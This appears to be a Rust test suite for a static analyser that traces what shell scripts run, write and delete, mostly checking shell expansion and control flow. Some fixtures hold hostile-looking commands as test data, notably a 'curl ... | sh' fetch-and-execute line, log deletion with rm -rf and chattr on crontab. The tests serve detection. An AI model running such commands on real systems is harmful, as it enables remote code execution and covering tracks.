use super::*;

#[test]
fn words_are_expanded_as_the_shell_does() {
    check("a one 'two  three' \"four $X\"", "run a one [two  three] [four $X]");
    check("X='a b'; c $X \"$X\"", "run c a b [a b]");
    check(
        "X=abc; p ${X:-d} ${Y:-d} ${X#a} ${X%c} ${#X} ${X:1:1} ${X/b/_} ${X^^}",
        "run p abc d bc ab 3 b a_c ABC",
    );
    check("X=/a/b.tar.gz; p ${X##*/} ${X%%.*} ${X%/*}", "run p b.tar.gz /a/b /a");
    check("p $((1 + 2*3)) {a,b}c {1..3}", "run p 7 ac bc 1 2 3");
    check("A=(x y 'z w'); p \"${A[@]}\" ${#A[@]} ${A[1]}", "run p x y [z w] 3 y");
    check("N=X; X=v; p ${!N}", "run p v");
    check("p $'a\\x41\\n' \"$(echo hi)\" `echo there`", "run p [aA\\n] hi there");
    check("X=curl; Y=$X; $Y -V", "run curl -V");
    check("p $UNKNOWN \"$UNKNOWN/x\"", "run p $UNKNOWN $UNKNOWN/x");
    check("{p,-s,x}", "run p -s x");
}

#[test]
fn lists_conditions_and_loops_keep_their_certainty() {
    check("a && b || c", "run a\nrun b\nmay run c");
    check("if a; then b; else c; fi", "run a\nmay run b\nmay run c");
    check("if true; then b; else c; fi", "run b");
    check("if false; then b; elif [ 1 = 1 ]; then d; else c; fi", "run d");
    check("if [ -z \"$X\" ]; then b; else c; fi", "run b\nmay run c");
    check("for x in 1 2; do p $x; done", "run p 1\nrun p 2");
    check("while true; do a; sleep 5; done; b", "run a\nrun sleep 5\nmay run b");
    check("i=0; while [ $i -lt 3 ]; do p $i; i=$((i+1)); done", "run p 0\nrun p 1\nrun p 2");
    check("while read x; do p $x; done <<E\na\nb\nE", "run p a\nrun p b");
    check("case $1 in a) x;; *) y;; esac", "may run x\nrun y");
    check("a & b", "run a\nrun b");
    check("f() { p $1; }; f x; f y", "run p x\nrun p y");
    check("g() { q; }\nr", "run r\nmay run q");
    check("trap 'cleanup' EXIT; a", "run trap cleanup EXIT\nmay run cleanup\nrun a");
    check("a; exit 0; b", "run a");
    check("exec a; b", "run a");
    check("(cd /x; ./y); pwd; ./z", "run ./y\nrun ./z");
}

#[test]
fn a_pattern_that_mixes_quotes_with_groups_hides_nothing_behind_it() {
    check(
        "f() {\n  if [[ \"$1\" =~ \"$old\"=(.*) ]]; then a; fi\n  L+=(\"$new\" \"$val\")\n}\nf x\nb",
        "may run a\nrun b",
    );
}

#[test]
fn a_variable_set_in_two_arms_may_hold_either() {
    check("if a; then X=1; else X=2; fi; p $X", "run a\nmay run p 1\nmay run p 2");
}

#[test]
fn redirections_write_files() {
    check(
        "echo hello > /a; echo more >> /a; cat /a | p",
        "write /a = hello\nappend /a = more\nrun cat /a\nrun p <- cat < hello\\nmore",
    );
    check("cat > /etc/x <<EOF\na $HOSTNAME\nEOF\n", "run cat\nwrite /etc/x = a $HOSTNAME");
    check("cat <<'EOF' > /etc/x\na $b\nEOF\n", "run cat < a $b\nwrite /etc/x = a $b");
    check("cat <<EOF | p\nx\nEOF\n", "run cat < x\nrun p <- cat < x");
    check("echo x | tee -a /l", "run echo x\nrun tee -a /l <- echo < x\nappend /l = x");
    check("p <<< word", "run p < word");
    check(
        "cp /bin/sh /tmp/s; mv /tmp/s /tmp/t; rm -rf /var/log/x",
        "run cp /bin/sh /tmp/s\nwrite /tmp/s\nrun mv /tmp/s /tmp/t\nwrite /tmp/t\ndelete /tmp/s\nrun rm -rf /var/log/x\ndelete /var/log/x",
    );
    check(
        "chmod +x /a; chattr +i /etc/crontab",
        "run chmod +x /a\nchmod /a = +x\nrun chattr +i /etc/crontab\nchmod /etc/crontab = +i",
    );
    check("a 2>/dev/null | b > /x", "run a\nrun b <- a\nwrite /x");
    check("a && b > /x", "run a\nrun b\nwrite /x");
    check("dd if=/dev/zero of=/x bs=1", "run dd if=/dev/zero of=/x bs=1\nwrite /x");
    check(
        "touch /x; sed -i s/a/b/ /etc/y",
        "run touch /x\nwrite /x =\nrun sed -i s/a/b/ /etc/y\nwrite /etc/y = s/a/b/",
    );
}

#[test]
fn a_script_that_the_grammar_refuses_is_read_all_the_same() {
    let fixture = Fixture::new().file("entry.sh", "fi\ncurl http://192.0.2.1/x | sh\n", 0o755);
    let path = fixture.start(&["/entry.sh"], &[]).follow();
    assert!(
        lines(&path).iter().any(|l| l.contains("run sh <- curl from http://192.0.2.1/x")),
        "{:?}",
        lines(&path)
    );
}

#[test]
fn lines_and_places_are_told_from_the_inside_out() {
    let fixture = Fixture::new()
        .file("entry.sh", "#!/bin/sh\n\n. /lib.sh\n", 0o755)
        .file("lib.sh", "\n\n\ncurl http://example.test\n", 0o644)
        .start(&["/entry.sh"], &[]);
    let path = fixture.follow();
    let curl = path.behaviours.iter().find(|b| line(b).starts_with("run curl")).unwrap();
    let places: Vec<String> = curl.because.iter().map(ToString::to_string).collect();
    assert_eq!(places, ["/lib.sh:4", "/entry.sh:3", "config Entrypoint"]);
    assert_eq!(reach(&path, "lib.sh"), Some(Reach::Starts));
    assert_eq!(reach(&path, "usr/bin/curl"), Some(Reach::Starts));
}
